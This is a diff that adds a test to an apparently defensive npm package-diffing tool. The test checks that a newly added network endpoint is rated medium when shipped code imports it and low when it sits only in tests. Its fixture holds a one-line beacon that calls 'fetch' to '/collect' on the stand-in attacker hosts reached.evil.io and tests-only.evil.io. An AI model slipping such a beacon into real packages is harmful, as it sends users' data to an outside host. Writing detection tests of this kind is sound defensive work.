@@ -229,3 +229,27 @@ def test_a_target_triple_in_a_release_name_is_not_its_version(name: str, version
     from finalexam.diffing.engine import version_from_name
 
     assert version_from_name(name) == version
+
+
+def test_endpoint_in_a_docs_or_tests_folder_that_shipped_code_requires_stays_medium(
+    old_npm: Path, tmp_path: Path
+) -> None:
+    """The diff decides where code sits as the exam does: a folder name demotes a file only
+    while nothing shipped imports it (``dist/doc/Document.js`` of the yaml package is code)."""
+    beacon = "module.exports = () => fetch('https://{host}/collect');\n"
+    new = npm_tarball(
+        tmp_path / "lib-1.2.1.tgz",
+        {
+            "package.json": package_json("1.2.1", dependencies={"path": "^0.12"}),
+            "index.js": INDEX + "require('./doc/Document.js');\n",
+            "doc/Document.js": beacon.format(host="reached.evil.io"),
+            "test/net.test.js": beacon.format(host="tests-only.evil.io"),
+            "README.md": "# lib\n",
+        },
+    )
+    severities = {
+        c.evidence["host"]: c.severity
+        for c in diff(old_npm, new).changes
+        if c.kind == "endpoint-added"
+    }
+    assert severities == {"reached.evil.io": Severity.MEDIUM, "tests-only.evil.io": Severity.LOW}
